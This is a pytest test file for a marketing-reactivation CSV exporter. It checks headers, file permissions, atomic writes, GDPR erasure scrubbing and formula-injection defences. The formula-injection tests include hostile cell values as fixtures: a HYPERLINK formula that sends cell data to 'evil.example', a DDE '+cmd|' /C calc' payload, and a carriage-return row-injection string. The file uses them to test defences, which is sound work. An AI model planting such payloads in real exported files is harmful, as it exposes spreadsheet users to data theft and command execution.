"""The reactivation export files (orchestration/exports.py), on a small warehouse made by hand.

No dbt run: each test writes the few rows of marts.reactivation_targets,
marts.reactivation_custom_audience and gdpr.erasure_tombstones it needs into a DuckDB file,
then checks the CSV files against the contract (CONTRACT.md, the `EXPORT_DIR` files; issue 9,
"Exports"): one file per channel with its header, header only when nobody is due, no cell a
spreadsheet would read as a formula, a custom audience without clear contact data, atomic
writes, and no erased person in any file of the folder, earlier days included.
"""

from __future__ import annotations

import csv
import grp
import hashlib
import os
import stat
import subprocess
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import duckdb
import pytest

from orchestration import exports
from orchestration.exports import (
    ExportScrubError,
    neutralise,
    write_csv_atomically,
    write_reactivation_exports,
)
from orchestration.gdpr_salt import SaltMismatchError, salt_fingerprint

SALT = "salt-of-the-export-tests"
AS_OF = date(2026, 6, 30)
EARLIER = date(2026, 6, 29)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# The contract's columns per file, written out here rather than read from the module.
LEADING = ["individual_id", "account_id", "household_id", "role", "scenario", "wave", "message",
           "offer", "first_name"]
TRAILING = ["send_hour", "priority"]
HEADERS = {
    "email": [*LEADING, "email", *TRAILING],
    "sms": [*LEADING, "phone_e164", *TRAILING],
    "postal": [*LEADING, "line_1", "line_2", "line_3", "line_4", "line_5", "line_6", *TRAILING],
    "custom_audience": ["individual_id", "scenario", "wave", "hashed_email", "hashed_phone"],
}

TARGETS_TABLE = """
create or replace table marts.reactivation_targets (
    as_of_date date, individual_id varchar, account_id varchar, household_id varchar,
    targeting_level varchar, role varchar, scenario varchar, wave integer, channel varchar,
    message varchar, offer varchar, first_name varchar, email varchar, phone_e164 varchar,
    line_1 varchar, line_2 varchar, line_3 varchar, line_4 varchar, line_5 varchar,
    line_6 varchar, send_hour integer, priority integer
)"""
AUDIENCE_TABLE = """
create or replace table marts.reactivation_custom_audience (
    as_of_date date, individual_id varchar, scenario varchar, wave integer,
    hashed_email varchar, hashed_phone varchar
)"""
TOMBSTONES_TABLE = """
create or replace table gdpr.erasure_tombstones (
    subject_hash varchar, rule varchar, erased_at timestamp, run_id varchar,
    salt_fingerprint varchar
)"""


def sha256(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def tombstone_hash(individual_id: str) -> str:
    """sha256(salt || id), as the tombstone model computes it (orchestration/gdpr_salt.py)."""
    return sha256(SALT + individual_id)


def target(individual_id: str, channel: str, as_of: date = AS_OF, **values: object) -> dict:
    address: dict[str, object] = {
        "email": {"email": f"{individual_id.lower()}@example.fr"},
        "sms": {"phone_e164": "+33612345678"},
        "postal": {"line_1": "MME MARIE DURAND", "line_4": "12 RUE DES LILAS",
                   "line_6": "75011 PARIS"},
    }[channel]
    return {"as_of_date": as_of, "individual_id": individual_id, "account_id": None,
            "household_id": f"H{individual_id}", "targeting_level": "household",
            "role": None, "scenario": "reactivation", "wave": 1, "channel": channel,
            "message": "we miss you", "offer": "exclusive offer", "first_name": "Marie",
            "send_hour": 18, "priority": 1, **address, **values}


def audience(individual_id: str, as_of: date = AS_OF) -> dict:
    return {"as_of_date": as_of, "individual_id": individual_id, "scenario": "reactivation",
            "wave": 1, "hashed_email": sha256(f"{individual_id.lower()}@example.fr"),
            "hashed_phone": sha256("+33698765432")}


def build_warehouse(path: Path, targets: list[dict], custom_audience: list[dict] = (),
                    erased: list[str] | None = None) -> Path:
    """The marts the export reads; erased=None leaves out the tombstone table (no erasure
    has run yet)."""
    with duckdb.connect(str(path)) as con:
        con.execute("create schema if not exists marts")
        con.execute("create schema if not exists gdpr")
        for ddl, table, rows in (
            (TARGETS_TABLE, "marts.reactivation_targets", targets),
            (AUDIENCE_TABLE, "marts.reactivation_custom_audience", custom_audience),
        ):
            con.execute(ddl)
            columns = [row[0] for row in con.execute(f"describe {table}").fetchall()]
            if rows:
                con.executemany(
                    f"insert into {table} values ({', '.join('?' for _ in columns)})",
                    [[row.get(column) for column in columns] for row in rows],
                )
        con.execute("drop table if exists gdpr.erasure_tombstones")
        if erased is not None:
            con.execute(TOMBSTONES_TABLE)
            for individual_id in erased:
                con.execute(
                    "insert into gdpr.erasure_tombstones values "
                    "(?, 'erasure_request', timestamp '2026-06-28 10:00', 'run-1', ?)",
                    [tombstone_hash(individual_id), salt_fingerprint(SALT)],
                )
    return path


def read_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def column(path: Path, name: str) -> list[str]:
    header, *rows = read_rows(path)
    return [row[header.index(name)] for row in rows]


def hidden_files(folder: Path) -> list[str]:
    return sorted(entry.name for entry in folder.iterdir() if entry.name.startswith("."))


@pytest.fixture(autouse=True)
def _environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GDPR_HASH_SALT", SALT)
    monkeypatch.delenv("WAREHOUSE_GROUP", raising=False)


@pytest.fixture
def warehouse(tmp_path: Path) -> Path:
    return tmp_path / "warehouse.duckdb"


@pytest.fixture
def export_dir(tmp_path: Path) -> Path:
    return tmp_path / "exports"


# --- files and columns ------------------------------------------------------------------


def test_one_file_per_channel_in_sending_order(warehouse: Path, export_dir: Path) -> None:
    build_warehouse(warehouse, [
        target("I1", "email", wave=2, priority=1),
        target("I2", "email", priority=2),
        target("I3", "email", priority=1),
        target("I4", "email", scenario="declining_activity", priority=9),
        target("I5", "email", as_of=EARLIER),  # another day: not in this day's file
        target("I6", "sms", send_hour=None),
        target("I7", "postal", account_id="A7", role="payer", targeting_level="account"),
    ], [audience("I8")])

    result = write_reactivation_exports(warehouse, export_dir, AS_OF)

    assert result.paths == {
        kind: export_dir / f"reactivation_{kind}_2026-06-30.csv" for kind in HEADERS
    }
    assert result.row_counts == {"email": 4, "sms": 1, "postal": 1, "custom_audience": 1}
    assert result.rows_scrubbed == 0
    for kind, path in result.paths.items():
        assert read_rows(path)[0] == HEADERS[kind], kind
        text = path.read_bytes()
        assert text.endswith(b"\n") and b"\r\n" not in text
    # scenario, wave, priority, individual_id
    assert column(result.paths["email"], "individual_id") == ["I4", "I3", "I2", "I1"]
    assert column(result.paths["email"], "email")[0] == "i4@example.fr"
    assert read_rows(result.paths["sms"])[1] == [
        "I6", "", "HI6", "", "reactivation", "1", "we miss you", "exclusive offer", "Marie",
        "'+33612345678", "", "1"]
    postal = dict(zip(HEADERS["postal"], read_rows(result.paths["postal"])[1], strict=True))
    assert (postal["account_id"], postal["role"]) == ("A7", "payer")
    assert [postal[f"line_{n}"] for n in range(1, 7)] == [
        "MME MARIE DURAND", "", "", "12 RUE DES LILAS", "", "75011 PARIS"]


def test_a_channel_without_targets_gets_its_header_only(warehouse: Path,
                                                        export_dir: Path) -> None:
    build_warehouse(warehouse, [target("I1", "email"), target("I2", "postal", as_of=EARLIER)])

    result = write_reactivation_exports(warehouse, export_dir, AS_OF)

    assert result.row_counts == {"email": 1, "sms": 0, "postal": 0, "custom_audience": 0}
    for kind in ("sms", "postal", "custom_audience"):
        assert result.paths[kind].read_text(encoding="utf-8") == ",".join(HEADERS[kind]) + "\n"


def test_the_warehouse_is_opened_read_only(warehouse: Path, export_dir: Path) -> None:
    build_warehouse(warehouse, [target("I1", "email")], erased=[])
    # DuckDB refuses a read-write connection to a file this process holds read-only
    with duckdb.connect(str(warehouse), read_only=True) as reader:
        result = write_reactivation_exports(warehouse, export_dir, AS_OF)
        assert reader.execute("select count(*) from marts.reactivation_targets").fetchall() \
            == [(1,)]
    assert result.row_counts["email"] == 1


def test_files_and_a_new_folder_are_readable_by_their_owner_only(tmp_path: Path,
                                                                 warehouse: Path) -> None:
    build_warehouse(warehouse, [target("I1", "email")])
    folder = tmp_path / "a" / "b" / "exports"

    result = write_reactivation_exports(warehouse, folder, AS_OF)

    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert {stat.S_IMODE(path.stat().st_mode) for path in result.paths.values()} == {0o600}


def test_the_configured_group_may_read_the_files(warehouse: Path, export_dir: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    group = grp.getgrgid(os.getgid()).gr_name
    monkeypatch.setenv("WAREHOUSE_GROUP", group)
    build_warehouse(warehouse, [target("I1", "email")])

    result = write_reactivation_exports(warehouse, export_dir, AS_OF)

    assert stat.S_IMODE(export_dir.stat().st_mode) == 0o750
    for path in result.paths.values():
        assert stat.S_IMODE(path.stat().st_mode) == 0o640
        assert grp.getgrgid(path.stat().st_gid).gr_name == group


# --- formula injection ------------------------------------------------------------------


@pytest.mark.parametrize(("value", "written"), [
    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
    ("+33612345678", "'+33612345678"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("Marie", "Marie"),
    ("a=b", "a=b"),
    ("'=already", "'=already"),
    (None, ""),
    (3, "3"),
    (-1, "'-1"),
    (AS_OF, "2026-06-30"),
])
def test_neutralise(value: object, written: str) -> None:
    assert neutralise(value) == written
    assert neutralise(neutralise(value)) == written  # rewriting a file changes nothing


def test_no_exported_cell_begins_a_formula(warehouse: Path, export_dir: Path) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?q="&A1,"Click, please")'
    build_warehouse(warehouse, [
        target("I1", "email", first_name=hyperlink, message="-2+3", offer="@SUM(A1:A9)",
               household_id="=1+1"),
        target("I2", "sms", message="+cmd|' /C calc'!A0", first_name="\tTabby"),
        target("I3", "postal", line_1="\r=CR", line_4="@home", role="-payer"),
    ], [audience("-I4")])

    result = write_reactivation_exports(warehouse, export_dir, AS_OF)

    for kind, path in result.paths.items():
        rows = read_rows(path)[1:]
        assert rows, kind
        for row in rows:
            dangerous = [cell for cell in row if cell.startswith(FORMULA_STARTS)]
            assert not dangerous, (kind, dangerous)
    email = dict(zip(HEADERS["email"], read_rows(result.paths["email"])[1], strict=True))
    assert email["first_name"] == "'" + hyperlink  # the csv quoting keeps it one cell
    assert (email["message"], email["offer"], email["household_id"]) == (
        "'-2+3", "'@SUM(A1:A9)", "'=1+1")
    sms = dict(zip(HEADERS["sms"], read_rows(result.paths["sms"])[1], strict=True))
    assert (sms["message"], sms["first_name"]) == ("'+cmd|' /C calc'!A0", "'\tTabby")
    postal = dict(zip(HEADERS["postal"], read_rows(result.paths["postal"])[1], strict=True))
    assert (postal["line_1"], postal["line_4"], postal["role"]) == ("'\r=CR", "'@home",
                                                                    "'-payer")
    assert column(result.paths["custom_audience"], "individual_id") == ["'-I4"]


def test_a_carriage_return_cannot_start_a_row(warehouse: Path, export_dir: Path) -> None:
    # Python's csv leaves a bare "\r" unquoted when rows end with "\n"
    message = "we miss you\rI999,,,,reactivation,1,injected"
    build_warehouse(warehouse, [target("I1", "email", message=message),
                                target("I2", "email", priority=2)])

    result = write_reactivation_exports(warehouse, export_dir, AS_OF)

    assert column(result.paths["email"], "message") == [message, "we miss you"]
    lines = result.paths["email"].read_bytes().split(b"\n")
    assert lines[1].startswith(b'"I1","","HI1","","reactivation","1","we miss you\r')
    assert lines[2].startswith(b"I2,,HI2,,reactivation,1,we miss you,")


def test_phones_are_neutralised_too(warehouse: Path, export_dir: Path) -> None:
    build_warehouse(warehouse, [target("I1", "sms"), target("I2", "sms",
                                                            phone_e164="+33700000001")])

    result = write_reactivation_exports(warehouse, export_dir, AS_OF)

    assert column(result.paths["sms"], "phone_e164") == ["'+33612345678", "'+33700000001"]


def test_the_custom_audience_holds_no_clear_email_or_phone(warehouse: Path,
                                                           export_dir: Path) -> None:
    build_warehouse(warehouse, [target("I1", "email")], [audience("I3"), audience("I2")])

    result = write_reactivation_exports(warehouse, export_dir, AS_OF)

    path = result.paths["custom_audience"]
    text = path.read_text(encoding="utf-8")
    assert "@" not in text and "+33" not in text and "612345678" not in text
    assert read_rows(path) == [
        HEADERS["custom_audience"],
        ["I2", "reactivation", "1", sha256("i2@example.fr"), sha256("+33698765432")],
        ["I3", "reactivation", "1", sha256("i3@example.fr"), sha256("+33698765432")],
    ]


# --- atomic writes ----------------------------------------------------------------------


def test_a_failed_rename_leaves_the_published_file_as_it_was(
        warehouse: Path, export_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    build_warehouse(warehouse, [target("I1", "email")])
    first = write_reactivation_exports(warehouse, export_dir, AS_OF)
    before = {kind: path.read_bytes() for kind, path in first.paths.items()}
    build_warehouse(warehouse, [target("I2", "email"), target("I3", "sms")])

    def crash(source: object, destination: object) -> None:
        raise OSError("disk gone")

    monkeypatch.setattr(exports.os, "replace", crash)
    with pytest.raises(OSError, match="disk gone"):
        write_reactivation_exports(warehouse, export_dir, AS_OF)
    with pytest.raises(OSError, match="disk gone"):  # a day with no file yet
        write_reactivation_exports(warehouse, export_dir, EARLIER)

    assert {kind: path.read_bytes() for kind, path in first.paths.items()} == before
    assert sorted(path.name for path in export_dir.iterdir()) == sorted(
        path.name for path in first.paths.values())  # no temporary file, no earlier day


def test_a_write_interrupted_midway_leaves_no_file(tmp_path: Path) -> None:
    path = tmp_path / "reactivation_email_2026-06-30.csv"

    def rows() -> Iterator[tuple]:
        yield ("I1", "Marie")
        raise KeyboardInterrupt  # a run stopped while the file is being written

    with pytest.raises(KeyboardInterrupt):
        write_csv_atomically(path, ["individual_id", "first_name"], rows())

    assert list(tmp_path.iterdir()) == []


def test_temporary_files_of_dead_runs_are_removed(warehouse: Path, export_dir: Path) -> None:
    build_warehouse(warehouse, [target("I1", "email")])
    export_dir.mkdir()
    finished = subprocess.Popen(["true"])
    finished.wait()
    dead = export_dir / f".reactivation_email_2026-06-29.csv.tmp-{finished.pid}"
    mine = export_dir / f".reactivation_sms_2026-06-30.csv.tmp-{os.getpid()}"
    running = export_dir / f".reactivation_postal_2026-06-30.csv.tmp-{os.getppid()}"
    unrelated = export_dir / ".keep"
    for path in (dead, mine, running, unrelated):
        path.write_text("I1,half a row", encoding="utf-8")

    write_reactivation_exports(warehouse, export_dir, AS_OF)

    assert hidden_files(export_dir) == sorted([running.name, unrelated.name])


def test_a_rerun_of_the_same_day_replaces_its_files(warehouse: Path, export_dir: Path) -> None:
    build_warehouse(warehouse, [target("I1", "email"), target("I2", "sms")], [audience("I3")])
    write_reactivation_exports(warehouse, export_dir, AS_OF)
    build_warehouse(warehouse, [target("I4", "email"), target("I5", "email")])

    result = write_reactivation_exports(warehouse, export_dir, AS_OF)

    assert result.row_counts == {"email": 2, "sms": 0, "postal": 0, "custom_audience": 0}
    assert column(result.paths["email"], "individual_id") == ["I4", "I5"]
    assert len(read_rows(result.paths["sms"])) == 1
    assert sorted(path.name for path in export_dir.iterdir()) == sorted(
        path.name for path in result.paths.values())


# --- erased people ----------------------------------------------------------------------


def test_erased_people_leave_every_file_of_the_folder(warehouse: Path,
                                                      export_dir: Path) -> None:
    build_warehouse(warehouse, [
        target("I1", "email", as_of=EARLIER),
        target("I2", "email", as_of=EARLIER),
        target("-7", "postal", as_of=EARLIER),  # written "'-7" in the file
        target("I3", "sms", as_of=EARLIER),
    ], [audience("I8", EARLIER), audience("I9", EARLIER)])
    earlier = write_reactivation_exports(warehouse, export_dir, EARLIER)  # no tombstone yet
    assert earlier.rows_scrubbed == 0
    assert earlier.row_counts == {"email": 2, "sms": 1, "postal": 1, "custom_audience": 2}
    sms_before = earlier.paths["sms"].read_bytes()
    # I1, -7 and I8 are erased the next day; the marts still hold I1 (a model letting an
    # erased person through): not written either
    build_warehouse(warehouse, [target("I1", "email"), target("I2", "email")],
                    erased=["I1", "-7", "I8"])

    result = write_reactivation_exports(warehouse, export_dir, AS_OF)

    assert result.rows_scrubbed == 3
    assert result.erased_rows_withheld == 1
    assert result.row_counts["email"] == 1
    assert column(result.paths["email"], "individual_id") == ["I2"]
    assert column(earlier.paths["email"], "individual_id") == ["I2"]
    assert read_rows(earlier.paths["postal"]) == [HEADERS["postal"]]
    assert column(earlier.paths["custom_audience"], "individual_id") == ["I9"]
    assert earlier.paths["sms"].read_bytes() == sms_before  # nobody erased in it: untouched
    for path in export_dir.glob("reactivation_*.csv"):
        ids = set(column(path, "individual_id"))
        assert not ids & {"I1", "'-7", "I8"}, path.name
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert hidden_files(export_dir) == []


def test_a_file_that_cannot_be_checked_stops_the_export(warehouse: Path,
                                                        export_dir: Path) -> None:
    build_warehouse(warehouse, [target("I1", "email")], erased=["I9"])
    export_dir.mkdir()
    (export_dir / "reactivation_notes.csv").write_text("name\nMarie\n", encoding="utf-8")

    with pytest.raises(ExportScrubError, match="no individual_id column"):
        write_reactivation_exports(warehouse, export_dir, AS_OF)


def test_another_salt_writes_nothing(warehouse: Path, export_dir: Path,
                                     monkeypatch: pytest.MonkeyPatch) -> None:
    # with another salt the tombstones would match nobody and erased people be exported
    build_warehouse(warehouse, [target("I1", "email")], erased=["I1"])
    monkeypatch.setenv("GDPR_HASH_SALT", "another salt")

    with pytest.raises(SaltMismatchError):
        write_reactivation_exports(warehouse, export_dir, AS_OF)

    assert list(export_dir.iterdir()) == []


def test_erased_people_leave_the_files_of_every_folder_ever_used(warehouse: Path,
                                                                 tmp_path: Path) -> None:
    """EXPORT_DIR moved between two runs: the erasure reaches the first folder's files too."""
    from orchestration.exports import scrub_export_dirs

    first, second = tmp_path / "first", tmp_path / "second"
    build_warehouse(warehouse, [target("I1", "email", as_of=EARLIER),
                                target("I2", "email", as_of=EARLIER)])
    written = write_reactivation_exports(warehouse, first, EARLIER)
    build_warehouse(warehouse, [target("I2", "email")], erased=["I1"])
    write_reactivation_exports(warehouse, second, AS_OF)

    assert scrub_export_dirs(warehouse, [first, second, tmp_path / "never-created"]) == 1
    assert column(written.paths["email"], "individual_id") == ["I2"]
    assert scrub_export_dirs(warehouse, [first, second]) == 0  # idempotent
